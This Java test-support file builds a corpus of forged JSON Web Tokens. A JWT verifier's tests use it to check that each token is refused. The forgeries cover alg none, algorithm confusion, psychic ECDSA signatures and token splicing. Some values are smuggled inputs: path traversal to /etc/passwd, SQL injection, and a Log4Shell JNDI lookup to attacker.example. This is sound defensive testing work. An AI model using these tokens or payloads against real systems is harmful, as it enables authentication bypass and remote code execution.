package dev.tokenguard.attacks;

import dev.tokenguard.jwt.RsaKeyPair;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.Key;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.interfaces.ECPublicKey;
import java.security.spec.ECGenParameterSpec;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jose4j.jca.ProviderContext;
import org.jose4j.json.JsonUtil;
import org.jose4j.jwa.AlgorithmFactoryFactory;
import org.jose4j.jwk.JsonWebKey;
import org.jose4j.jws.JsonWebSignatureAlgorithm;
import org.jose4j.keys.HmacKey;

/**
 * Known attacks on JWT verifiers (RFC 8725 and the published ones), each a named token aimed at one target:
 * an issuer with an RSA key (RS256) and an EC key (ES256) published in a key set, an issuer string and an
 * audience. Every one must be refused. Used by the unit tests and, through the test jar, by the server suite
 * in {@code it/}, so that both check exactly the same attacks.
 */
public final class AttackCorpus {

    /**
     * One attack.
     *
     * @param attackClass the family it belongs to (as listed in the README's security section)
     * @param name        what exactly this token tries
     * @param token       the bearer token to send
     */
    public record Attack(String attackClass, String name, String token) {
        @Override
        public String toString() {
            return attackClass + ": " + name;
        }
    }

    /**
     * The issuer the attacks aim at.
     *
     * @param rsa      its RSA signing key, published under {@code rsaKid}
     * @param ec       its P-256 signing key, published under {@code ecKid}
     * @param issuer   the {@code iss} the verifier accepts
     * @param audience the {@code aud} the verifier requires
     */
    public record Target(RsaKeyPair rsa, String rsaKid, KeyPair ec, String ecKid, String issuer, String audience) {

        public static KeyPair newEcKey() {
            try {
                KeyPairGenerator g = KeyPairGenerator.getInstance("EC");
                g.initialize(new ECGenParameterSpec("secp256r1"));
                return g.generateKeyPair();
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }

        /** The public JWK Set the target's verifier trusts. */
        public String jwks() {
            try {
                JsonWebKey rsaJwk = JsonWebKey.Factory.newJwk(rsa.publicKey());
                rsaJwk.setKeyId(rsaKid);
                rsaJwk.setUse("sig");
                JsonWebKey ecJwk = JsonWebKey.Factory.newJwk(ec.getPublic());
                ecJwk.setKeyId(ecKid);
                ecJwk.setUse("sig");
                return JsonUtil.toJson(Map.of("keys", List.of(
                        rsaJwk.toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY),
                        ecJwk.toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY))));
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }
    }

    /** A signed token with the given header and payload text, for tests that need a valid one. */
    public static String signed(String headerJson, String payloadJson, String alg, Key key) {
        String input = b64(headerJson) + "." + b64(payloadJson);
        return input + "." + b64(sign(input, alg, key));
    }

    private AttackCorpus() {
    }

    /** Every attack against {@code t}. */
    public static List<Attack> against(Target t) {
        List<Attack> attacks = new ArrayList<>();
        long now = Instant.now().getEpochSecond();
        String claims = JsonUtil.toJson(claims(t, now));
        String rsaHeader = header("RS256", t.rsaKid());
        RsaKeyPair attacker = RsaKeyPair.generate();

        // alg: none in every spelling, with and without a signature part.
        for (String none : List.of("none", "None", "NONE", "nOnE", "none ", " none")) {
            String input = b64(JsonUtil.toJson(Map.of("alg", none, "typ", "JWT"))) + "." + b64(claims);
            attacks.add(new Attack("alg none", "alg '" + none + "', empty signature", input + "."));
            attacks.add(new Attack("alg none", "alg '" + none + "', junk signature", input + "." + b64("junk")));
        }
        attacks.add(new Attack("alg none", "no alg at all",
                b64("{\"typ\":\"JWT\",\"kid\":\"" + t.rsaKid() + "\"}") + "." + b64(claims) + "." + b64("x")));

        // Algorithm confusion: HMAC keyed with the issuer's public key in the forms an attacker can get.
        String pem = t.rsa().publicKeyPem();
        byte[][] secrets = {pem.getBytes(StandardCharsets.UTF_8), pem.strip().getBytes(StandardCharsets.UTF_8),
            t.rsa().publicKey().getEncoded(), t.jwks().getBytes(StandardCharsets.UTF_8),
            t.ec().getPublic().getEncoded()};
        String[] forms = {"RSA public key PEM", "RSA public key PEM, trimmed", "RSA public key DER",
            "JWK Set JSON", "EC public key DER"};
        for (int i = 0; i < secrets.length; i++) {
            for (String hs : List.of("HS256", "HS384", "HS512")) {
                attacks.add(new Attack("algorithm confusion", hs + " keyed with the " + forms[i],
                        signed(header(hs, i == 4 ? t.ecKid() : t.rsaKid()), claims, hs, new HmacKey(secrets[i]))));
            }
        }
        attacks.add(new Attack("algorithm confusion", "PS256 (not allowed) with the issuer's own key",
                signed(header("PS256", t.rsaKid()), claims, "PS256", t.rsa().privateKey())));
        attacks.add(new Attack("algorithm confusion", "ES256 header on an RSA key id",
                signed(header("ES256", t.rsaKid()), claims, "ES256", t.ec().getPrivate())));

        // kid injection: kid is only ever a lookup key.
        for (Object kid : List.of("../../../../../../etc/passwd", "/dev/null", "' OR '1'='1", "1; DROP TABLE keys",
                "k".repeat(2000), "\u0000", "\n[FAKE] admin logged in", "${jndi:ldap://attacker.example/a}",
                "", 42, Map.of("kid", t.rsaKid()), List.of(t.rsaKid()), true)) {
            Map<String, Object> h = new LinkedHashMap<>(Map.of("alg", "RS256"));
            h.put("kid", kid);
            attacks.add(new Attack("kid injection", "kid " + describe(kid),
                    signed(JsonUtil.toJson(h), claims, "RS256", attacker.privateKey())));
        }

        // Key sources named by the token: jku, x5u, an embedded jwk or x5c of the attacker's key.
        Map<String, Object> attackerJwk = publicJwk(attacker);
        for (Map.Entry<String, Object> source : List.of(
                Map.entry("jku", (Object) "https://attacker.example/jwks.json"),
                Map.entry("x5u", (Object) "https://attacker.example/cert.pem"),
                Map.entry("jwk", (Object) attackerJwk),
                Map.entry("x5c", (Object) List.of(Base64.getEncoder().encodeToString(attacker.publicKey().getEncoded()))))) {
            for (String kid : new String[] {null, t.rsaKid()}) {
                Map<String, Object> h = new LinkedHashMap<>(Map.of("alg", "RS256", source.getKey(), source.getValue()));
                if (kid != null) {
                    h.put("kid", kid);
                }
                attacks.add(new Attack("token-supplied key", source.getKey() + " pointing at the attacker's key"
                        + (kid == null ? "" : ", with the issuer's kid"),
                        signed(JsonUtil.toJson(h), claims, "RS256", attacker.privateKey())));
            }
        }

        // crit abuse, signed with the real key so that only crit can refuse them.
        for (String crit : List.of("\"crit\":[\"exp\"],\"exp\":1", "\"crit\":[\"b64\"],\"b64\":false",
                "\"crit\":[\"http://attacker.example/ext\"],\"http://attacker.example/ext\":1", "\"crit\":[]",
                "\"crit\":\"alg\"", "\"crit\":[\"alg\"]", "\"crit\":[\"missing\"]", "\"crit\":[7]", "\"crit\":null")) {
            attacks.add(new Attack("crit", crit, signed("{\"alg\":\"RS256\",\"kid\":\"" + t.rsaKid() + "\"," + crit
                    + "}", claims, "RS256", t.rsa().privateKey())));
        }

        // JWE instead of JWS.
        attacks.add(new Attack("JWE", "five parts, RSA-OAEP / A256GCM header",
                b64("{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\",\"kid\":\"" + t.rsaKid() + "\"}") + "."
                        + b64("key") + "." + b64("iv") + "." + b64(claims) + "." + b64("tag")));
        attacks.add(new Attack("JWE", "five parts, dir / A128CBC-HS256 header",
                b64("{\"alg\":\"dir\",\"enc\":\"A128CBC-HS256\"}") + "..." + b64(claims) + "." + b64("tag")));

        // ECDSA forms: psychic signatures (CVE-2022-21449), out-of-range r and s, wrong lengths.
        String ecHeader = header("ES256", t.ecKid());
        String ecInput = b64(ecHeader) + "." + b64(claims);
        byte[] good = sign(ecInput, "ES256", t.ec().getPrivate());
        BigInteger n = ((ECPublicKey) t.ec().getPublic()).getParams().getOrder();
        BigInteger r = new BigInteger(1, Arrays.copyOfRange(good, 0, 32));
        BigInteger s = new BigInteger(1, Arrays.copyOfRange(good, 32, 64));
        Map<String, byte[]> ecdsa = new LinkedHashMap<>();
        ecdsa.put("r = s = 0 (psychic signature)", new byte[64]);
        ecdsa.put("r = 0", concat(new byte[32], fixed(s, 32)));
        ecdsa.put("s = 0", concat(fixed(r, 32), new byte[32]));
        ecdsa.put("r = n", concat(fixed(n, 32), fixed(s, 32)));
        ecdsa.put("s = n", concat(fixed(r, 32), fixed(n, 32)));
        ecdsa.put("r + n (same value mod n)", concat(fixed(r.add(n), 33), fixed(s, 32)));
        ecdsa.put("s + n", concat(fixed(r, 32), fixed(s.add(n), 33)));
        ecdsa.put("63 bytes", Arrays.copyOf(good, 63));
        ecdsa.put("65 bytes", Arrays.copyOf(good, 65));
        ecdsa.put("DER instead of R || S", der(r, s));
        for (Map.Entry<String, byte[]> e : ecdsa.entrySet()) {
            attacks.add(new Attack("ECDSA signature form", e.getKey(), ecInput + "." + b64(e.getValue())));
        }

        // Non-canonical base64url of a genuinely signed token.
        String genuine = signed(rsaHeader, claims, "RS256", t.rsa().privateKey());
        String[] p = genuine.split("\\.");
        attacks.add(new Attack("base64url", "padding on the header", p[0] + "==." + p[1] + "." + p[2]));
        attacks.add(new Attack("base64url", "padding on the signature", p[0] + "." + p[1] + "." + p[2] + "=="));
        attacks.add(new Attack("base64url", "standard alphabet (+ /)", p[0] + "." + p[1] + "."
                + p[2].replace('-', '+').replace('_', '/') + (p[2].contains("-") || p[2].contains("_") ? "" : "+")));
        attacks.add(new Attack("base64url", "space inside", p[0] + "." + p[1].substring(0, 4) + " "
                + p[1].substring(4) + "." + p[2]));
        attacks.add(new Attack("base64url", "non-zero unused bits", p[0] + "." + p[1] + "." + flipUnusedBits(p[2])));
        attacks.add(new Attack("base64url", "invalid character '?'", p[0] + "." + p[1] + "?." + p[2]));

        // Duplicate JSON member names: two parsers, two meanings.
        attacks.add(new Attack("duplicate members", "alg twice",
                signed("{\"alg\":\"RS256\",\"kid\":\"" + t.rsaKid() + "\",\"alg\":\"none\"}", claims, "RS256",
                        t.rsa().privateKey())));
        String dupPayload = claims.substring(0, claims.length() - 1) + ",\"scope\":\"read admin\",\"sub\":\"root\"}";
        attacks.add(new Attack("duplicate members", "scope and sub twice in the claims",
                signed(rsaHeader, dupPayload, "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("duplicate members", "duplicate inside a nested object",
                signed(rsaHeader, claims.substring(0, claims.length() - 1) + ",\"x\":{\"a\":1,\"a\":2}}", "RS256",
                        t.rsa().privateKey())));

        // Signed text that is not JSON (RFC 8259) although a lenient parser reads it: what Jazzer found jose4j's
        // JSON-simple accepting. A token must mean one thing to every parser (RFC 7519 §7.2: a completely valid
        // JSON object).
        String open = claims.substring(0, claims.length() - 1);
        attacks.add(new Attack("non-strict JSON", "missing comma between claims",
                signed(rsaHeader, open + " \"admin\":true}", "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("non-strict JSON", "missing colon after a name",
                signed(rsaHeader, open + ",\"role\" \"admin\"}", "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("non-strict JSON", "raw NUL inside a claim string",
                signed(rsaHeader, open + ",\"note\":\"a\u0000b\"}", "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("non-strict JSON", "raw newline inside a claim string",
                signed(rsaHeader, open + ",\"note\":\"a\nb\"}", "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("non-strict JSON", "trailing comma",
                signed(rsaHeader, open + ",}", "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("non-strict JSON", "unknown escape in the header",
                signed("{\"alg\":\"RS256\",\"kid\":\"" + t.rsaKid() + "\",\"x\":\"\\q\"}", claims, "RS256",
                        t.rsa().privateKey())));
        attacks.add(new Attack("non-strict JSON", "leading zero in exp",
                signed(rsaHeader, open.replaceFirst("\"exp\":", "\"exp\":0"), "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("non-strict JSON", "a second object after the claims",
                signed(rsaHeader, claims + "{\"scope\":\"admin\"}", "RS256", t.rsa().privateKey())));

        // Deeply nested and huge JSON, and a huge header.
        attacks.add(new Attack("deep or huge JSON", "claims nested 1000 levels deep",
                signed(rsaHeader, claims.substring(0, claims.length() - 1) + ",\"d\":" + "[".repeat(1000)
                        + "]".repeat(1000) + "}", "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("deep or huge JSON", "header nested 1000 levels deep",
                signed("{\"alg\":\"RS256\",\"kid\":\"" + t.rsaKid() + "\",\"d\":" + "{\"a\":".repeat(1000) + "1"
                        + "}".repeat(1000) + "}", claims, "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("deep or huge JSON", "a header of 65 values (the most is 64)",
                signed("{\"alg\":\"RS256\",\"kid\":\"" + t.rsaKid() + "\",\"x\":[" + "0,".repeat(62) + "0]}", claims,
                        "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("deep or huge JSON", "20 000 claims",
                signed(rsaHeader, manyMembers(claims, 20_000), "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("deep or huge JSON", "a 60 kB header",
                signed("{\"alg\":\"RS256\",\"kid\":\"" + t.rsaKid() + "\",\"pad\":\"" + "A".repeat(60_000) + "\"}",
                        claims, "RS256", t.rsa().privateKey())));

        // NUL and non-ASCII bytes inside the decoded parts.
        attacks.add(new Attack("NUL and non-ASCII", "NUL in the algorithm name",
                signed("{\"alg\":\"RS256\u0000\",\"kid\":\"" + t.rsaKid() + "\"}", claims, "RS256",
                        t.rsa().privateKey())));
        attacks.add(new Attack("NUL and non-ASCII", "invalid UTF-8 in the claims",
                signedBytes(rsaHeader.getBytes(StandardCharsets.UTF_8),
                        new byte[] {'{', '"', 's', 'u', 'b', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'},
                        t.rsa().privateKey())));
        attacks.add(new Attack("NUL and non-ASCII", "UTF-16 encoded header",
                signedBytes(rsaHeader.getBytes(StandardCharsets.UTF_16), claims.getBytes(StandardCharsets.UTF_8),
                        t.rsa().privateKey())));
        attacks.add(new Attack("NUL and non-ASCII", "alg with a Cyrillic lookalike letter (RЅ256)",
                signed("{\"alg\":\"R\u0405256\",\"kid\":\"" + t.rsaKid() + "\"}", claims, "RS256",
                        t.rsa().privateKey())));

        // exp, nbf and iat of the wrong type or absurd value, signed by the real issuer.
        Object[][] times = {
            {"exp", "9999999999"}, {"exp", 1.5e9}, {"exp", Double.MAX_VALUE}, {"exp", -1},
            {"exp", Long.MAX_VALUE}, {"exp", true},
            {"exp", null}, {"exp", List.of(now + 600)}, {"nbf", "0"}, {"nbf", -1}, {"nbf", 1e20}, {"iat", "now"},
            {"iat", -5}, {"iat", 1e300}, {"iat", now + 86_400},
        };
        for (Object[] time : times) {
            Map<String, Object> c = claims(t, now);
            c.put((String) time[0], time[1]);
            attacks.add(new Attack("time claims", time[0] + " = " + describe(time[1]),
                    signed(rsaHeader, JsonUtil.toJson(c), "RS256", t.rsa().privateKey())));
        }
        Map<String, Object> noExp = claims(t, now);
        noExp.remove("exp");
        attacks.add(new Attack("time claims", "no exp at all",
                signed(rsaHeader, JsonUtil.toJson(noExp), "RS256", t.rsa().privateKey())));

        // Numbers no long or double can hold, and numbers long enough to make parsing cost more than a signature.
        String[][] numbers = {
            {"exp beyond a long", "\"exp\":99999999999999999999999999"},
            {"a claim of 1e400 (infinite as a double)", "\"n\":1e400"},
            {"a nested claim of -1e400", "\"profile\":{\"score\":-1e400}"},
            {"an integer claim beyond a long", "\"account\":18446744073709551616"},
            {"a 101-digit fraction", "\"n\":0." + "1".repeat(99)},
            {"an exponent of 30 digits", "\"n\":1e" + "1".repeat(30)},
        };
        for (String[] number : numbers) {
            attacks.add(new Attack("numbers", number[0],
                    signed(rsaHeader, open + "," + number[1] + "}", "RS256", t.rsa().privateKey())));
        }
        attacks.add(new Attack("numbers", "a 10,000-digit integer in the header (parsed before the signature)",
                signed("{\"alg\":\"RS256\",\"kid\":\"" + t.rsaKid() + "\",\"n\":" + "9".repeat(10_000) + "}",
                        claims, "RS256", t.rsa().privateKey())));
        attacks.add(new Attack("numbers", "1e400 in the header",
                signed("{\"alg\":\"RS256\",\"kid\":\"" + t.rsaKid() + "\",\"n\":1e400}", claims, "RS256",
                        t.rsa().privateKey())));

        // Scopes that are not RFC 6749 scope-tokens but would read as "admin" to a lenient parser.
        Object[][] scopes = {
            {"scope", List.of("read", "admin\u2003")}, {"scope", List.of(" admin")}, {"scope", "read\tadmin"},
            {"scope", "read\nadmin"}, {"scope", List.of("\u00a0admin")}, {"scope", List.of("admin\u200b")},
            {"scope", "adm\"in"}, {"scope", List.of("")},
        };
        for (Object[] scope : scopes) {
            Map<String, Object> c = claims(t, now);
            c.put((String) scope[0], scope[1]);
            attacks.add(new Attack("scopes", scope[0] + " = " + describe(scope[1]),
                    signed(rsaHeader, JsonUtil.toJson(c), "RS256", t.rsa().privateKey())));
        }

        // Genuine tokens of the issuer meant for someone else.
        Map<String, Object> idToken = claims(t, now);
        idToken.put("aud", "my-spa-client");
        idToken.put("azp", "my-spa-client");
        idToken.put("nonce", "n-0S6_WzA2Mj");
        idToken.put("at_hash", "MTIzNDU2Nzg5MDEyMzQ1Ng");
        attacks.add(new Attack("token for someone else", "an ID token (audience = a client) as access token",
                signed(rsaHeader, JsonUtil.toJson(idToken), "RS256", t.rsa().privateKey())));
        Map<String, Object> replay = claims(t, now);
        replay.put("aud", "https://another-service.example");
        attacks.add(new Attack("token for someone else", "a token for another service (replay)",
                signed(rsaHeader, JsonUtil.toJson(replay), "RS256", t.rsa().privateKey())));
        Map<String, Object> noAud = claims(t, now);
        noAud.remove("aud");
        attacks.add(new Attack("token for someone else", "no audience at all",
                signed(rsaHeader, JsonUtil.toJson(noAud), "RS256", t.rsa().privateKey())));
        Map<String, Object> otherIssuer = claims(t, now);
        otherIssuer.put("iss", t.issuer() + ".evil.example");
        attacks.add(new Attack("token for someone else", "another issuer's claims signed by the issuer's key",
                signed(rsaHeader, JsonUtil.toJson(otherIssuer), "RS256", t.rsa().privateKey())));

        // Splices of genuine parts.
        String other = signed(rsaHeader, JsonUtil.toJson(replay), "RS256", t.rsa().privateKey());
        attacks.add(new Attack("splicing", "claims of one token with the signature of another",
                p[0] + "." + other.split("\\.")[1] + "." + p[2]));
        attacks.add(new Attack("splicing", "signature removed", p[0] + "." + p[1] + "."));
        attacks.add(new Attack("splicing", "signature of the attacker's key under the issuer's kid",
                signed(rsaHeader, claims, "RS256", attacker.privateKey())));
        return attacks;
    }

    // --- helpers ------------------------------------------------------------------------------------------

    private static Map<String, Object> claims(Target t, long now) {
        Map<String, Object> c = new LinkedHashMap<>();
        c.put("iss", t.issuer());
        c.put("aud", t.audience());
        c.put("sub", "mallory");
        c.put("scope", "read admin");
        c.put("iat", now);
        c.put("exp", now + 600);
        return c;
    }

    private static String header(String alg, String kid) {
        return "{\"alg\":\"" + alg + "\",\"kid\":\"" + kid + "\",\"typ\":\"JWT\"}";
    }

    private static String manyMembers(String claims, int count) {
        StringBuilder b = new StringBuilder(claims.substring(0, claims.length() - 1));
        for (int i = 0; i < count; i++) {
            b.append(",\"c").append(i).append("\":").append(i);
        }
        return b.append('}').toString();
    }

    private static Map<String, Object> publicJwk(RsaKeyPair keys) {
        try {
            return JsonWebKey.Factory.newJwk(keys.publicKey()).toParams(JsonWebKey.OutputControlLevel.PUBLIC_ONLY);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String describe(Object value) {
        if (value instanceof String s) {
            String shown = s.length() > 30 ? s.substring(0, 12) + "...(" + s.length() + " chars)" : s;
            return "'" + shown.replace("\u0000", "\\0").replace("\n", "\\n") + "'";
        }
        return value == null ? "null" : value.getClass().getSimpleName() + " " + value;
    }

    private static byte[] sign(String input, String alg, Key key) {
        try {
            JsonWebSignatureAlgorithm jose = AlgorithmFactoryFactory.getInstance().getJwsAlgorithmFactory()
                    .getAlgorithm(alg);
            return jose.sign(jose.prepareForSign(key, new ProviderContext()), input.getBytes(StandardCharsets.US_ASCII));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String signedBytes(byte[] header, byte[] payload, Key key) {
        String input = b64(header) + "." + b64(payload);
        return input + "." + b64(sign(input, "RS256", key));
    }

    private static String b64(String text) {
        return b64(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String b64(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static byte[] fixed(BigInteger v, int length) {
        byte[] raw = v.toByteArray();
        byte[] out = new byte[length];
        int copy = Math.min(raw.length, length);
        System.arraycopy(raw, raw.length - copy, out, length - copy, copy);
        return out;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }

    private static byte[] der(BigInteger r, BigInteger s) {
        byte[] rb = r.toByteArray();
        byte[] sb = s.toByteArray();
        byte[] out = new byte[6 + rb.length + sb.length];
        out[0] = 0x30;
        out[1] = (byte) (4 + rb.length + sb.length);
        out[2] = 0x02;
        out[3] = (byte) rb.length;
        System.arraycopy(rb, 0, out, 4, rb.length);
        out[4 + rb.length] = 0x02;
        out[5 + rb.length] = (byte) sb.length;
        System.arraycopy(sb, 0, out, 6 + rb.length, sb.length);
        return out;
    }

    private static String flipUnusedBits(String part) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        char last = part.charAt(part.length() - 1);
        int mask = part.length() % 4 == 2 ? 0x0f : part.length() % 4 == 3 ? 0x03 : 0;
        if (mask == 0) {
            return part + "A"; // no unused bits: a length no encoder produces instead
        }
        return part.substring(0, part.length() - 1) + alphabet.charAt(alphabet.indexOf(last) | 1);
    }
}
